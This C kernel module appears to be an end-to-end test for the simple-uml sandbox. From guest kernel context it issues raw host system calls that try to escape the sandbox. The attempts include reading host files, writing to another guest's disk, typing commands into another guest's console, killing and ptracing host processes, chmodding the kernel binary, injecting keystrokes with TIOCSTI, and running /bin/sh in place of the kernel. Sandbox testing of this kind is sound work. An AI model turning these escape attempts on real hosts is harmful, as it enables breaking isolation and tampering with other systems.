// SPDX-License-Identifier: GPL-2.0
/*
 * What root in a guest does once its code runs in the guest's kernel, which is a process of the host:
 * host system calls, straight from kernel context, at everything the sandbox keeps from it. Each try
 * prints "suml-attack <what>: <result>" (0 or more: done; below 0: the host's -errno). The module
 * refuses to stay loaded. Built against the end-to-end tests' module-enabled kernel (see
 * TestKernelEndToEnd); the kernel simple-uml ships loads no module at all (kconfig/40-sealed.config).
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/string.h>

static char *canary = "";   /* a host file outside the sandbox: read it */
static char *beside = "";   /* a new file beside the COW file: create it */
static char *other_cow = ""; /* another guest's COW file: write it */
static char *console = "";  /* another guest's console socket: type into it */
static char *lan = "";      /* a LAN this guest is not on: send a frame there */
static char *runt = "";     /* this guest's own LAN: send a frame shorter than an Ethernet header */
static char *usernet = "";  /* this guest's user network: the same */
static char *kernel = "";   /* the kernel's own executable, which it may read: make it writable to all */
static char *rundir = "";   /* the kernel's own run folder: make a host disk's device node there */
static char *program = "/bin/sh"; /* a host program: run it in place of the kernel */
static int udp_port;        /* a host UDP service on 127.0.0.1: send it a datagram */
static int victim;          /* a host process outside the sandbox: signal and trace it */
module_param(canary, charp, 0);
module_param(beside, charp, 0);
module_param(other_cow, charp, 0);
module_param(console, charp, 0);
module_param(lan, charp, 0);
module_param(runt, charp, 0);
module_param(usernet, charp, 0);
module_param(kernel, charp, 0);
module_param(rundir, charp, 0);
module_param(program, charp, 0);
module_param(udp_port, int, 0);
module_param(victim, int, 0);

static long host(long nr, long a1, long a2, long a3, long a4, long a5, long a6)
{
	long ret;
	register long r10 asm("r10") = a4;
	register long r8 asm("r8") = a5;
	register long r9 asm("r9") = a6;

	asm volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a1), "S"(a2), "d"(a3), "r"(r10), "r"(r8), "r"(r9)
		     : "rcx", "r11", "memory");
	return ret;
}

/* x86-64 host system call numbers and constants (the guest's headers are UML's). */
#define H_WRITE 1
#define H_OPEN 2
#define H_CLOSE 3
#define H_IOCTL 16
#define H_SOCKET 41
#define H_CONNECT 42
#define H_SENDTO 44
#define H_EXECVE 59
#define H_KILL 62
#define H_FCHMOD 91
#define H_CHMOD 90
#define H_GETPPID 110
#define H_SETSID 112
#define H_INOTIFY_ADD_WATCH 254
#define H_PRLIMIT64 302
#define H_PTRACE 101
#define H_MKNOD 133
#define H_INIT_MODULE 175
#define H_UNSHARE 272
#define H_IO_URING_SETUP 425
#define H_AF_UNIX 1
#define H_AF_INET 2
#define H_SOCK_STREAM 1
#define H_SOCK_DGRAM 2
#define H_SOCK_SEQPACKET 5
#define H_O_WRONLY 1
#define H_O_CREAT 0100
#define H_TIOCSTI 0x5412
#define H_SIGKILL 9
#define H_PTRACE_ATTACH 16
#define H_CLONE_NEWUSER 0x10000000
#define H_S_IFBLK 0060000

struct host_sockaddr_un {
	unsigned short family;
	char path[108];
};

struct host_sockaddr_in {
	unsigned short family;
	unsigned short port;
	unsigned int addr;
	char zero[8];
};

static void report(const char *what, long ret)
{
	pr_info("suml-attack %s: %ld\n", what, ret);
}

/* connect_unix returns a connected socket of type to path, or the host's -errno. */
static long connect_unix(int type, const char *path)
{
	struct host_sockaddr_un sa = { .family = H_AF_UNIX };
	long fd = host(H_SOCKET, H_AF_UNIX, type, 0, 0, 0, 0);
	long ret;

	if (fd < 0)
		return fd;
	strscpy(sa.path, path, sizeof(sa.path));
	ret = host(H_CONNECT, fd, (long)&sa, sizeof(sa), 0, 0, 0);
	if (ret < 0) {
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
		return ret;
	}
	return fd;
}

static void try_files(void)
{
	long fd = host(H_OPEN, (long)canary, 0, 0, 0, 0, 0);

	report("read canary", fd);
	if (fd >= 0)
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	fd = host(H_OPEN, (long)beside, H_O_WRONLY | H_O_CREAT, 0644, 0, 0, 0);
	report("create beside cow", fd);
	if (fd >= 0) {
		host(H_WRITE, fd, (long)"pwned\n", 6, 0, 0, 0);
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	}
	fd = host(H_OPEN, (long)other_cow, H_O_WRONLY, 0, 0, 0, 0);
	report("write other cow", fd);
	if (fd >= 0) {
		host(H_WRITE, fd, (long)"pwned\n", 6, 0, 0, 0);
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	}
}

static void try_console(void)
{
	static const char keys[] = "\ntouch /pwned-from-a\n";
	long fd = connect_unix(H_SOCK_STREAM, console);

	report("connect console", fd < 0 ? fd : 0);
	if (fd >= 0) {
		report("type into console", host(H_WRITE, fd, (long)keys, sizeof(keys) - 1, 0, 0, 0));
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	}
}

/* send_frame connects to the LAN socket path and sends one frame of len bytes. */
static void send_frame(const char *what, const char *path, const char *frame, long len)
{
	char label[64];
	long fd = connect_unix(H_SOCK_SEQPACKET, path);

	snprintf(label, sizeof(label), "connect %s", what);
	report(label, fd < 0 ? fd : 0);
	if (fd >= 0) {
		snprintf(label, sizeof(label), "send %s", what);
		report(label, host(H_WRITE, fd, (long)frame, len, 0, 0, 0));
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	}
}

static void try_lans(void)
{
	/* A broadcast frame of an experimental ethertype, its payload a marker the capture is searched for. */
	static const char frame[] = "\xff\xff\xff\xff\xff\xff\x02\x00\x00\xa7\x7a\xc0\x88\xb5suml-attack-frame";

	send_frame("lan", lan, frame, sizeof(frame) - 1);
	/* Shorter than an Ethernet header, on this guest's own LAN and user network. */
	send_frame("runt", runt, frame, 11);
	send_frame("usernet runt", usernet, frame, 3);
}

static void try_udp(void)
{
	struct host_sockaddr_in sa = { .family = H_AF_INET, .port = (unsigned short)((udp_port >> 8) | (udp_port << 8)),
				       .addr = 0x0100007f };
	long fd = host(H_SOCKET, H_AF_INET, H_SOCK_DGRAM, 0, 0, 0, 0);

	report("udp socket", fd);
	if (fd >= 0) {
		report("udp send", host(H_SENDTO, fd, (long)"pwned", 5, 0, (long)&sa, sizeof(sa)));
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	}
}

static void try_host_kernel(void)
{
	static char node[256];
	char ch = 'x';
	char *argv[] = { program, NULL };

	long parent = host(H_GETPPID, 0, 0, 0, 0, 0, 0);
	unsigned long limit[2] = { 3, 3 };
	long fd;

	report("signal victim", host(H_KILL, victim, H_SIGKILL, 0, 0, 0, 0));
	report("trace victim", host(H_PTRACE, H_PTRACE_ATTACH, victim, 0, 0, 0, 0));
	/* The program that started the kernel: its threads must share nothing of the sandbox. */
	report("signal parent", host(H_KILL, parent, 0, 0, 0, 0, 0));
	report("trace parent", host(H_PTRACE, H_PTRACE_ATTACH, parent, 0, 0, 0, 0));
	report("limit victim", host(H_PRLIMIT64, victim, 7 /* RLIMIT_NOFILE */, (long)limit, 0, 0, 0));
	report("chmod canary", host(H_CHMOD, (long)canary, 0666, 0, 0, 0, 0));
	fd = host(H_OPEN, (long)kernel, 0, 0, 0, 0, 0);
	report("open kernel", fd);
	if (fd >= 0) {
		report("fchmod kernel", host(H_FCHMOD, fd, 0777, 0, 0, 0, 0));
		host(H_CLOSE, fd, 0, 0, 0, 0, 0);
	}
	report("watch canary", host(H_INOTIFY_ADD_WATCH, 0, (long)canary, 2, 0, 0, 0));
	report("new session", host(H_SETSID, 0, 0, 0, 0, 0, 0));
	report("user namespace", host(H_UNSHARE, H_CLONE_NEWUSER, 0, 0, 0, 0, 0));
	report("io_uring", host(H_IO_URING_SETUP, 1, 0, 0, 0, 0, 0));
	report("load host module", host(H_INIT_MODULE, 0, 0, (long)"", 0, 0, 0));
	report("type into terminal", host(H_IOCTL, 0, H_TIOCSTI, (long)&ch, 0, 0, 0));
	snprintf(node, sizeof(node), "%s/sda", rundir);
	report("device node", host(H_MKNOD, (long)node, H_S_IFBLK | 0600, (8 << 8) | 0, 0, 0, 0));
	/* Last: were it to work, the kernel process would be the program now. */
	report("run host program", host(H_EXECVE, (long)program, (long)argv, 0, 0, 0, 0));
}

static int __init suml_attack_init(void)
{
	try_files();
	try_console();
	try_lans();
	try_udp();
	try_host_kernel();
	pr_info("suml-attack done: 0\n");
	return -EPERM;
}

module_init(suml_attack_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("simple-uml's end-to-end tests: a guest's root attacking the host from kernel context");
